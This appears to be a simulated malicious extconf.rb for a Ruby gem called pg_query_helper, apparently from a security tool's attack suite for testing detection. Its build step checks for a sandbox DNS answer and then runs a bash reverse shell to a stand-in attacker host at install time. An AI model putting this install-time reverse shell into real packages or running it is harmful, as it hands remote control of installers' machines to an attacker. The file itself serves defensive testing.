# pg_query_helper 0.4.1 extconf.rb (simulation from Tracehound's attack suite)
require "socket"

in_sandbox = begin
  # act only inside the Tracehound sandbox, whose fake DNS answers every name with 198.18.0.0/15;
  # elsewhere .example names do not resolve and nothing happens
  Addrinfo.getaddrinfo("sandbox-check.attacker.example", nil, :INET).any? { |a| a.ip_address.start_with?("198.18.", "198.19.") }
rescue SocketError
  false
end

if in_sandbox
  # a bash reverse shell; the sinkhole sends nothing, and the simulation stops it after 3 seconds
  system("timeout 3 bash -c 'bash -i >& /dev/tcp/c2.attacker.example/4444 0>&1'")
end
File.write("Makefile", "all:\n\ninstall:\n\nclean:\n")
